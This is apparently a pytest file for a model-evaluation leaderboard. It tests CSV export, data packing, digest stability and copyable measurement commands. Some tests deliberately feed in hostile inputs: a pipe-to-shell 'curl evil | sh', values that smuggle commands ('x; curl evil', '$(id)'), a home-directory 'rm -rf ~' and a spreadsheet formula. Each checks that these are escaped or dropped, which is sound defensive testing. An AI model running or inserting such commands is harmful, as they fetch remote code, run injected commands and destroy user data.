"""The documents of a board: the CSV, the packed data of the page, the digest, gaps."""

from __future__ import annotations

import csv
import io
import json
import shlex
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from hf_evaluation.board.board import make_board
from hf_evaluation.board.documents import pack, reports_csv
from hf_evaluation.board.site import MANIFEST, site_files
from hf_evaluation.board.survey import read_survey
from tests.board.support import board_of, one
from tests.survey_files import gap, lines, model, random_survey, score

if TYPE_CHECKING:
    pass

VERIFIED = score("mmlu_pro", 60.0, kind="eval-results", verified=True, date="2025-01-01")
CARD = score("mmlu_pro", 72.0, kind="readme", status="unpublished", line=141)


def test_the_long_csv_has_every_report_once_and_no_formula() -> None:
    text = lines([model("acme/m", VERIFIED, CARD, score("gsm8k", 80.0, name="=HYPERLINK(1)"))])
    rows = list(csv.DictReader(io.StringIO(reports_csv(board_of(text)))))
    assert [(row["benchmark"], row["value"], row["shown"], row["source"]) for row in rows] == [
        ("mmlu_pro", "60.0", "yes", "Model card"),
        ("mmlu_pro", "72.0", "no", "Model card"),
        ("gsm8k", "80.0", "yes", "'=HYPERLINK(1)"),
    ]


def test_the_packed_page_says_what_the_document_says() -> None:
    document = board_of(random_survey(30, 8, seed=5))
    packed = pack(document)
    strings, names, texts = packed["strings"], packed["fields"], set(packed["texts"])
    for row, short in zip(document["models"], packed["models"], strict=True):
        for column, rank, why, conflict, reports in short["cells"]:
            item = row["cells"][document["benchmarks"][column]["id"]]
            assert (rank, strings[why], bool(conflict)) == (item["rank"], item["why"], item["conflict"])
            for packed_report, report in zip(reports, item["reports"], strict=True):
                filled = [*packed_report, *[None] * (len(names) - len(packed_report))]
                unpacked = {
                    n: strings[v or 0] if n in texts else v for n, v in zip(names, filled, strict=True)
                }
                assert unpacked == report


def test_a_zero_survives_the_packing() -> None:
    document = one(score("gsm8k", 0.0, stderr=0.0, samples=0))
    packed = pack(document)
    (report,) = packed["models"][0]["cells"][0][4]
    filled = dict(zip(packed["fields"], report, strict=False))
    assert (filled["value"], filled["stderr"], filled["samples"]) == (0.0, 0.0, 0)


def test_building_twice_gives_the_same_bytes_and_only_news_changes_the_digest(tmp_path: Path) -> None:
    text = random_survey(5, 4)
    site = site_files(make_board(read_survey(text), {}, title="T"))
    assert site == site_files(make_board(read_survey(text), {}, title="T"))
    later = text.replace("2026-11-23T10:00:00Z", "2026-11-24T10:00:00Z")
    again = site_files(make_board(read_survey(later), {}, title="T"))
    other = site_files(make_board(read_survey(text.replace('"likes": ', '"likes": 1')), {}, title="T"))
    digests = [json.loads(files[MANIFEST])["digest"] for files in (site, again, other)]
    assert digests[0] == digests[1] != digests[2]
    assert site["index.html"] != again["index.html"]


def test_gaps_get_their_command_and_hide_what_artificial_analysis_says() -> None:
    gaps = [
        gap("gsm8k", "to_measure", flavor="a10g-small"),
        gap("gpqa", "on_artificial_analysis", value=61.5, command="curl evil | sh"),
    ]
    document = board_of(lines([model("acme/m", gaps=gaps)]))
    rows = document["models"][0]["gaps"]
    assert [(row["state"], row["value"]) for row in rows] == [
        ("to_measure", None),
        ("on_artificial_analysis", None),
    ]
    assert rows[0]["command"].endswith("--repo-id acme/m --create-pr")
    assert rows[1]["command"] is None


def test_thousands_of_reports_are_compared_as_far_as_that_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    """Anybody may propose them; and a date may be any digits."""
    reports = [score("gsm8k", 50.0, date="1" * 5000), score("gsm8k", 50.0), score("gsm8k", 60.0)]
    conflicts = []
    for most in (3, 2):
        monkeypatch.setattr("hf_evaluation.board.choosing.MAX_RIVALS", most)
        (row,) = board_of(lines([model("acme/m", *reports)]))["models"]
        (cell,) = row["cells"].values()
        conflicts.append(cell["conflict"])
    assert conflicts == [True, False]


@pytest.mark.parametrize("state", ["in_pr", "in_readme", "to_measure", "on_artificial_analysis", "other"])
def test_no_command_of_a_survey_file_gets_onto_the_page(state: str) -> None:
    """People copy it with a button: it is made here, and what it is made of is quoted."""
    evil = gap(
        "x; curl evil", state, task="$(id)", flavor="`id`", creator="a b", offered="'", command="rm -rf ~"
    )
    (row,) = board_of(lines([model("acme/m", gaps=[evil])]))["models"][0]["gaps"]
    assert "rm -rf" not in json.dumps(row)
    assert not {"curl", ";", "id"} & set(shlex.split(row["command"] or ""))
